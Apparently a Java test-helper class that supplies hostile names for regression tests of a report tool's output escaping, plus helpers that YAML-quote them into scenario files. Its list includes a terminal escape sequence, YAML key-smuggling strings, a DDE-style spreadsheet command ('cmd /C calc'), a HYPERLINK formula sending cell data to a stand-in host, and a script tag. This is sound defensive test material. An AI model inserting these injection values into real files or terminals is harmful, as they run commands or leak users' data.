package se.sim1177.report;

import java.util.List;
import java.util.Locale;

/**
 * Names and values meant to break out of where they are written (issue 17, items 3 to 5): terminal
 * escape sequences, line breaks of every kind, quotes, spreadsheet formula starts, HTML, YAML
 * syntax, and one very long name; and a way to put any of them into a scenario file.
 */
public final class HostileText {
  private HostileText() {}

  /** The title-and-clear-screen sequence of the issue: OSC 0 (window title) ended by BEL, then ED 2. */
  public static final String TERMINAL = "\u001b]0;pwned\u0007\u001b[2Jname";

  /** One of each kind, for the fixed regression tests. */
  public static final List<String> NAMES = List.of(
      TERMINAL,
      "foo\nbar baz",
      "evil\nstaff: {groups: []}",
      "x\r\ny: 1",
      "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")",
      "+1+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1+1)\rcmd",
      "\tleading tab",
      "\rleading CR",
      "he said \"hi\", then 'bye' \\ back",
      "<script>alert(1)</script>&amp;</p>",
      "# not a comment: - [x] {y} *a &b !!str",
      "null",
      "next line\u0085line separator\u2028paragraph\u2029bom\ufeffC1 CSI\u009b2J",
      "nul\u0000bell\u0007backspace\bdel\u007fvt\u000bff\u000c",
      "Vårdguiden 日本 \uD83D\uDE91",
      "x".repeat(5000) + "\n" + "y".repeat(300));

  /**
   * {@code text} as a YAML double-quoted scalar written independently of {@code YamlText}: every
   * character outside printable ASCII, and {@code "} and {@code \}, as a <code>&#92;uHHHH</code> escape (a
   * character beyond U+FFFF as its two surrogate escapes, which YAML readers join again).
   */
  public static String yamlQuoted(String text) {
    StringBuilder out = new StringBuilder("\"");
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      if (c >= 0x20 && c < 0x7F && c != '"' && c != '\\') {
        out.append(c);
      } else {
        out.append(String.format(Locale.ROOT, "\\u%04x", (int) c));
      }
    }
    return out.append('"').toString();
  }

  /** {@code scenarioText} with its top-level {@code name:} line naming {@code name}. */
  public static String withName(String scenarioText, String name) {
    String replaced = scenarioText.replaceFirst("(?m)^name: .*$", java.util.regex.Matcher.quoteReplacement("name: " + yamlQuoted(name)));
    if (replaced.equals(scenarioText)) {
      throw new IllegalArgumentException("no top-level name: line");
    }
    return replaced;
  }

  /** {@code scenarioText} with its staff group {@code group} renamed {@code name}, in staff: and staffing: alike. */
  public static String withGroupName(String scenarioText, String group, String name) {
    String quoted = java.util.regex.Matcher.quoteReplacement(yamlQuoted(name));
    return scenarioText.replaceAll("(?m)^(\\s*- name: )" + group + "\\s*$", "$1" + quoted)
        .replaceAll("\\{group: " + group + ",", "{group: " + quoted + ",")
        .replaceAll("\\b" + group + ": (\\d+)", quoted + ": $1");
  }
}
